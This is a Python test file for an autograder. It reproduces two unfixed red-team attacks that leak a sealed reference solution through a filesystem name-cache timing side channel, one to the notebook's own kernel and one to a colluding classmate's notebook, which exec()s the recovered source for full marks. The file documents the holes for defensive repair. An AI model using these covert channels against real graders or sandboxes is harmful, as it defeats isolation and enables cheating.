"""OPEN (issue 18): the machine's name cache carries a lent reference out of its kernel.

Not part of CI: `pytest tests/open_name_cache.py` runs these (the file name keeps pytest from
collecting it otherwise). Each is an attack found by red-team round r39 that still gets through,
and each asserts what must hold, so each FAILS today. A timing channel's reading varies with the
machine's load, so a run in CI could pass or fail by chance; these are reproductions, kept to be
run by hand until the channel is closed (README, "Not guaranteed").

A name looked up is answered from the kernel's name cache (a name that does not exist too) for as
long as the cache keeps it, about twice as fast as one not looked up, and that cache is the whole
machine's: a lending kernel that holds a reference can leave bits of it there, for the notebook's
kernel (which then holds it, though every cell that prints it is sealed) or for a classmate graded
later on the same machine (who then runs it: full marks at softmax where the control keeps 0.04).
"""

import random

from test_envelope import needs_groups, needs_sandbox
from test_judge import notebook, printed, processes_left
from test_lending_channel import WRONG_SOFTMAX_RECORDING_THE_REFERENCE

from autograder.judge import judge_notebook
from autograder.reference import reference_source, with_dependencies

NAMES = """\
import os

import numpy

FOLDER, TAG, CHARS = os.path.dirname(numpy.__file__), %r, 40  # TAG: new names each run
CALIBRATION = [1, 0] * 16


def _names(i):  # seven names that do not exist, in a folder every kernel of the machine sees
    return [f'{FOLDER}/r39-{TAG}-{i}-{copy}' for copy in range(7)]


def _bits(text):
    return CALIBRATION + [(ord(c) >> k) & 1 for c in text[:CHARS].ljust(CHARS) for k in range(8)]
"""

# The sender and the timer, shared by both attacks: a name looked up stays in the name cache, and
# a later look-up of it is faster.
LOOKUPS = """
import time


def _took(name):  # how long looking `name` up takes (ns)
    start = time.perf_counter_ns()
    try:
        os.stat(name)
    except OSError:
        pass
    return time.perf_counter_ns() - start


def _look_up(bits):  # the names of each 1 bit looked up, so the cache holds them
    for i, bit in enumerate(bits):
        for name in _names(i) if bit else []:
            _took(name)
"""

WEIGHTS_THAT_LOOK_UP_THE_REFERENCE = """\
SENT = []


def attention_weights(scores):
    if SEEN and not SENT:  # in a kernel holding the reference: a name looked up for each 1 bit
        SENT.append(1)
        _look_up(_bits(SEEN[0]))
    return softmax(scores)
"""

TIMED_LOOKUPS = """\
import statistics

took = [[_took(name) for name in _names(i)] for i in range(len(CALIBRATION) + 8 * CHARS)]
cached = statistics.median(t for i in range(0, 32, 2) for t in took[i])
uncached = statistics.median(t for i in range(1, 32, 2) for t in took[i])
bits = [sum(t < (cached + uncached) / 2 for t in ts) >= 4 for ts in took[len(CALIBRATION):]]
print(repr(''.join(chr(sum(bits[8 * j + k] << k for k in range(8))) for j in range(CHARS))))
"""


@needs_sandbox
@needs_groups
def test_the_name_cache_carries_nothing_from_a_kernel_that_held_a_reference(tmp_path):
    """Red-teamed in round r39, not fixed: a name looked up is answered from the kernel's name cache
    (a name that does not exist too) for as long as the cache keeps it, about twice as fast as one
    not looked up. The lending kernel, holding the reference, looked up a name that does not exist,
    in numpy's folder, for each 1 bit of the reference's source; the notebook's kernel timed a look-up
    of every name once it ran again and read the source back, about 95 characters in 100 right, in
    one lending step: here 40 characters of 40, in a few milliseconds (any length in the step's time).
    The reference then never reaches the feedback (the cells that print it are sealed), but the
    notebook's kernel holds it."""
    judged = judge_notebook(notebook(tmp_path / "nb.ipynb", [
        WRONG_SOFTMAX_RECORDING_THE_REFERENCE, (NAMES + LOOKUPS).replace("%r", repr(f"{random.getrandbits(32):08x}")),
        ("grade", "softmax"),
        WEIGHTS_THAT_LOOK_UP_THE_REFERENCE, ("grade", "attention_weights"), TIMED_LOOKUPS]))
    assert judged.steps["softmax"].fraction < 1
    sent = reference_source(with_dependencies(["softmax"]))[:40]
    read = eval(printed(judged, 5))  # noqa: S307 - the repr of a str this test's notebook printed
    assert sum(a == b for a, b in zip(read, sent)) < 20, (read, sent)
    assert processes_left() == []


# Names a classmate looks up, and reads back by timing (the two colluding notebooks share them).
CLASSMATE_NAMES = """\
import os, numpy
FOLDER, TAG, COPIES, N = os.path.dirname(numpy.__file__), %r, 15, 1760
def _names(i):
    return [f'{FOLDER}/c{TAG}_{i}_{c}' for c in range(COPIES)]
CAL = [1, 0] * 16
"""

WEIGHTS_THAT_LEAVE_THE_REFERENCE_BEHIND = """\
SENT = []
def attention_weights(scores):
    if SEEN and not SENT:
        SENT.append(1)
        import ast
        tree = ast.parse(SEEN[0])
        for node in ast.walk(tree):
            if isinstance(node, ast.FunctionDef) and isinstance(node.body[0], ast.Expr):
                node.body = node.body[1:] or [ast.Pass()]
        data = ast.unparse(tree).encode()[:N // 8 - 2]
        data = len(data).to_bytes(2, 'big') + data
        _look_up(CAL + [(b >> k) & 1 for b in data for k in range(8)])
    return softmax(scores)
"""

READ_AND_RUN_WHAT_A_CLASSMATE_LEFT = """\
import statistics
def _bit(i, thr):
    return sum(_took(n) < thr for n in _names(i)) * 2 > COPIES
cal = [[_took(n) for n in _names(i)] for i in range(32)]
one = statistics.median(t for i in range(0, 32, 2) for t in cal[i]); zero = statistics.median(t for i in range(1, 32, 2) for t in cal[i])
thr = (one + zero) / 2
votes = [0] * (N + 32)
for p in range(3):  # three passes over every bit, five of its names each: a burst of noise hits one
    for i in range(32, N + 32):
        votes[i] += sum(_took(n) < thr for n in _names(i)[5 * p:5 * p + 5])
def _byte(j):
    return sum((votes[32 + 8 * j + k] * 2 > COPIES) << k for k in range(8))
length = _byte(0) * 256 + _byte(1)
REF = bytes(_byte(2 + j) for j in range(min(length, N // 8 - 2))).decode('utf-8', 'replace')
print('READ', length, 'bytes', one, zero); print(repr(REF))
try:
    exec(REF, globals())
    print('RAN THE REFERENCE')
except Exception as error:
    print('COULD NOT RUN', type(error).__name__)
"""

NO_SOFTMAX = """\
import numpy as np
def softmax(x, axis=-1):
    return x  # B cannot write softmax
"""


@needs_sandbox
@needs_groups
def test_a_reference_lent_to_one_student_never_reaches_a_classmate(tmp_path):
    """Red-teamed in round r39, not fixed: two colluding classmates graded one after the other on
    one machine, as nbgrader autograde grades a class. A gets softmax wrong; its lending kernel,
    holding softmax's reference, looks up a name that does not exist for each 1 bit of the source
    (its docstring left out: 216 bytes, 15 names a bit); B times its own look-ups of the same names,
    runs what it read, and is graded with the reference's softmax: full marks (twice of two here),
    where B's control, without A, keeps 0.04 of them."""
    names = (CLASSMATE_NAMES + LOOKUPS).replace("%r", repr(f"{random.getrandbits(32):08x}"))
    (tmp_path / "a").mkdir(), (tmp_path / "b").mkdir()
    a = judge_notebook(notebook(tmp_path / "a" / "nb.ipynb", [
        WRONG_SOFTMAX_RECORDING_THE_REFERENCE, names, ("grade", "softmax"),
        WEIGHTS_THAT_LEAVE_THE_REFERENCE_BEHIND, ("grade", "attention_weights")]))
    b = judge_notebook(notebook(tmp_path / "b" / "nb.ipynb", [
        NO_SOFTMAX, names, READ_AND_RUN_WHAT_A_CLASSMATE_LEFT, ("grade", "softmax")]))
    assert a.steps["softmax"].fraction < 1
    assert b.steps["softmax"].fraction < 0.5, printed(b, 2)
    assert processes_left() == []
